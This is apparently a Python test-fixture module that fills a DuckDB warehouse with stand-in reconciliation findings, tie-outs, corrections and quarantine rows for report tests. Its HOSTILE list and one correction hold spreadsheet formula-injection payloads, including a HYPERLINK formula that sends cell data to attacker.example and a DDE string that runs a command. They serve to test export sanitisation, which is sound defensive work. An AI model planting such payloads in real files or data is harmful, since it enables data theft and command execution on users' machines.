"""Stand-in upstream tables for report and portal tests: `recon.findings` (two nights), `recon.tieout`,
`corrections.outbox` (through the corrections package's own API) and `quality.quarantine`, written
straight into a warehouse file. Realistic rows, including the hostile text a source system can hold:
formula prefixes, tab/CR-leading cells, very long names and non-ASCII."""

from __future__ import annotations

import hashlib
from datetime import date, timedelta
from decimal import Decimal
from pathlib import Path

import duckdb

from corrections.outbox import Correction, insert_proposals
from resources.migrations import migrate

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"Open invoice")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\tTabbed Client Ltd",
    "\rCarriage Return GmbH",
    "=cmd|' /C calc'!A0",
    "Société Générale — Zürich 東京 Ünïcødé",
    "Long Name " + "Consulting " * 30,
]
ENTITIES = {"US01": "USD", "UK01": "GBP", "DE01": "EUR"}
CODES = [  # code, category, owner queue
    ("INVOICE_AMOUNT_MISMATCH", "invoice_cash", "finance"),
    ("UNBILLED_TIME_AGED", "time_wip", "finance"),
    ("OPPORTUNITY_WITHOUT_PROJECT", "engagement", "pmo"),
    ("TIME_RATE_MISMATCH", "time_wip", "pmo"),
    ("CUSTOMER_NAME_MISMATCH", "customer", "sales_ops"),
    ("CREDIT_MEMO_NOT_REFLECTED", "invoice_cash", "finance"),
    ("CUSTOMER_UNLINKED_MATCH", "customer", "sales_ops"),
    ("INVOICE_MISSING_IN_ERP", "invoice_cash", "finance"),
]
TIEOUT_COLUMNS = """snapshot_date DATE, legal_entity VARCHAR, month DATE, currency VARCHAR, psa_billed DECIMAL(18, 2),
    erp_invoiced DECIMAL(18, 2), difference DECIMAL(18, 2), explained_by_findings DECIMAL(18, 2),
    unexplained DECIMAL(18, 2), invoices_with_findings BIGINT, erp_outside_psa DECIMAL(18, 2)"""


def finding_id(code: str, subject: str) -> str:
    return "fnd_" + hashlib.md5(f"{code}:{subject}".encode()).hexdigest()[:16]


def findings_of(night: date, first_night: date, count: int, resolved: list[dict]) -> list[dict]:
    """`count` open findings cycling through codes, entities and ages; every hostile string appears
    in a text column; `resolved` previous-night findings come back as resolved."""
    rows = []
    for n in range(count):
        code, category, queue = CODES[n % len(CODES)]
        entity = list(ENTITIES)[n % 3]
        hostile = HOSTILE[n % len(HOSTILE)]
        money = Decimal(125 * (n + 1)) + Decimal("0.50") if n % 5 else None
        event = night - timedelta(days=(n * 13) % 150)
        rows.append(
            {
                "snapshot_date": night,
                "finding_id": finding_id(code, f"S{n}"),
                "code": code,
                "category": category,
                "severity": ("high", "medium", "low")[n % 3],
                "owner_queue": queue,
                "legal_entity": entity,
                "customer_global_id": f"cus_{n:016x}",
                "project_global_id": None,
                "crm_id": f"001{n:012d}",
                "psa_id": str(4000 + n),
                "erp_id": f"{entity}:{n + 10}",
                "document_number": hostile if n % 4 == 0 else f"INV-{n}",
                "currency": ENTITIES[entity],
                "expected_value": f"{money or 0:.2f}",
                "actual_value": hostile,
                "amount_difference": -money if money else None,
                "detail": f"{hostile} differs ({code.lower()}).",
                "first_seen": first_night if n < count - 3 else night,
                "last_seen": night,
                "age_days": (night - first_night).days if n < count - 3 else 0,
                "status": "open",
                "subject_key": f"S{n}",
                "money_at_risk": money,
                "event_date": event,
                "confidence": 0.91 if code == "CUSTOMER_UNLINKED_MATCH" else None,
            }
        )
    rows += [{**r, "snapshot_date": night, "status": "resolved"} for r in resolved]
    return rows


def write_stand_in_night(warehouse: Path, night: date, findings: int = 24) -> dict:
    """Two nights of findings (the previous night has the first `findings - 3` open plus two that
    are resolved tonight), the night's tie-out, three proposed corrections and the quarantine.
    Returns what was written, by table."""
    previous = night - timedelta(days=1)
    first_night = night - timedelta(days=20)
    previous_rows = findings_of(previous, first_night, findings - 3, [])
    gone = [
        {**r, "finding_id": finding_id(r["code"], f"gone{n}"), "subject_key": f"gone{n}"}
        for n, r in enumerate(previous_rows[:2])
    ]
    previous_rows += [{**g, "snapshot_date": previous} for g in gone]
    night_rows = findings_of(night, first_night, findings, gone)
    tieout = [
        {
            "snapshot_date": night,
            "legal_entity": entity,
            "month": date(night.year, night.month, 1) - timedelta(days=31 * k),
            "currency": currency,
            "psa_billed": Decimal(10000 * (k + 1)) + Decimal("0.25"),
            "erp_invoiced": Decimal(10000 * (k + 1)) + Decimal("125.75"),
            "difference": Decimal("125.50"),
            "explained_by_findings": Decimal("125.50"),
            "unexplained": Decimal("0.00"),
            "invoices_with_findings": 1,
            "erp_outside_psa": Decimal("0.00"),
        }
        for entity, currency in ENTITIES.items()
        for k in range(2)
    ]
    quarantine = [
        {
            "snapshot_date": night,
            "system": "harvest",
            "entity": "",
            "object": "time_entries",
            "record_id": str(900 + n),
            "rule": "negative_hours",
            "field": "hours",
            "value": value,
            "detail": f"hours must be positive: {value}",
        }
        for n, value in enumerate(["-2", "=1+1", "@A1"])
    ]
    quarantine.append(
        {
            "snapshot_date": night,
            "system": "quickbooks",
            "entity": "DE01",
            "object": "Invoice",
            "record_id": None,
            "rule": "missing_id",
            "field": "Id",
            "value": None,
            "detail": "Rechnung ohne Id — übersprungen",
        }
    )
    with duckdb.connect(str(warehouse)) as db:
        migrate(db)
        db.execute(f"CREATE TABLE IF NOT EXISTS recon.tieout ({TIEOUT_COLUMNS})")
        for table, records in (
            ("recon.findings", previous_rows + night_rows),
            ("recon.tieout", tieout),
            ("quality.quarantine", quarantine),
        ):
            names = list(records[0])
            db.executemany(
                f"INSERT INTO {table} ({', '.join(names)}) VALUES ({', '.join('?' * len(names))})",
                [[r[n] for n in names] for r in records],
            )
        by_code = {r["code"]: r for r in night_rows if r["status"] == "open"}
        corrections = [
            Correction(
                by_code["CREDIT_MEMO_NOT_REFLECTED"]["finding_id"],
                "CREDIT_MEMO_NOT_REFLECTED",
                "harvest",
                "invoices",
                "US01",
                "5005",
                "payment",
                "0.00",
                "250.00",
                "credit_memo_as_payment",
                "approval",
            ),
            Correction(
                by_code["CUSTOMER_NAME_MISMATCH"]["finding_id"],
                "CUSTOMER_NAME_MISMATCH",
                "harvest",
                "clients",
                None,
                "7007",
                "name",
                "=cmd|' /C calc'!A0",
                "Acme & Sons",
                "crm_name_wins",
                "auto",
            ),
            Correction(
                by_code["CUSTOMER_UNLINKED_MATCH"]["finding_id"],
                "CUSTOMER_UNLINKED_MATCH",
                "salesforce",
                "Account",
                None,
                "001000000000006",
                "PSA_Client_Id__c",
                None,
                "4006",
                "stamp_xref",
                "approval",
            ),
        ]
        db.execute("BEGIN TRANSACTION")
        insert_proposals(db, corrections, night)
        db.execute("COMMIT")
    return {
        "findings": night_rows,
        "previous": previous_rows,
        "tieout": tieout,
        "quarantine": quarantine,
        "corrections": corrections,
    }
